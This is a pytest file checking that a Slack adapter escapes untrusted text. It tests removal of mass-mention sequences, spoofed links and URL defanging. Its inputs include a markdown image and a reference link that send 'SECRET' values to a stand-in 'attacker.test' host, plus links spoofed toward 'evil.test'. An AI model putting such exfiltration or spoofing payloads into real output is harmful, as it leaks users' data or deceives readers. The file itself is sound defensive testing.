"""Untrusted text can ping nobody and link nowhere (security-and-reliability.md §4)."""

from __future__ import annotations

import pytest

from adapters.slack.escape import defang_url, escape_mrkdwn, link, link_label, safe_text

PINGS = ["<!channel>", "<!here>", "<!everyone>", "<!subteam^S123>", "<@U123>", "<#C123>", "<!date^1392734382^x|y>"]


@pytest.mark.parametrize("payload", PINGS)
def test_control_sequences_are_escaped(payload: str) -> None:
    out = safe_text(f"Hey {payload} read this")
    assert "<" not in out and ">" not in out
    assert payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") in out


def test_link_text_spoofing_leaves_no_link() -> None:
    out = safe_text("see <https://evil.test|https://bbc.co.uk> and [https://bbc.co.uk](https://evil.test)")
    assert "<" not in out and ">" not in out
    assert "https://evil.test" not in out and "https://bbc.co.uk" not in out  # both defanged
    assert "evil[.]test" in out


def test_markdown_image_and_reference_definitions_are_removed() -> None:
    text = "Look ![x](https://attacker.test/p.png?q=SECRET) here\n\n[r]: https://attacker.test/?q=SECRET2\nend"
    out = safe_text(text)
    assert "SECRET" not in out and "attacker" not in out
    assert out.startswith("Look") and out.endswith("end")


def test_allowed_urls_stay_readable_others_are_defanged() -> None:
    out = safe_text(
        "Source https://gov.example/report.pdf, and https://evil.test/?q=1.",
        allowed_urls={"https://gov.example/report.pdf"},
    )
    assert "https://gov.example/report.pdf," in out
    assert "hxxps://evil[.]test/?q=1." in out


def test_escape_happens_exactly_once() -> None:
    # An article that already contains the entity must not be unescaped into a live mention.
    assert safe_text("&lt;!channel&gt;") == "&amp;lt;!channel&amp;gt;"
    assert escape_mrkdwn("a & b < c > d") == "a &amp; b &lt; c &gt; d"


def test_link_shows_its_own_target() -> None:
    out = link("https://www.bbc.co.uk/news/x?a=1&b=<2>|3")
    target, label = out[1:-1].split("|")
    assert target.startswith("https://www.bbc.co.uk/news/x?a=1&amp;b=%3C2%3E%7C3")
    assert label == "bbc.co.uk/news/x"
    assert out.count("<") == 1 and out.count(">") == 1


def test_link_label_is_shortened_and_defang_keeps_path() -> None:
    assert len(link_label("https://example.com/" + "a" * 200)) == 60
    assert defang_url("http://a.b.c/x.y") == "hxxp://a[.]b[.]c/x.y"
    assert defang_url("www.evil.test/p") == "www[.]evil[.]test/p"
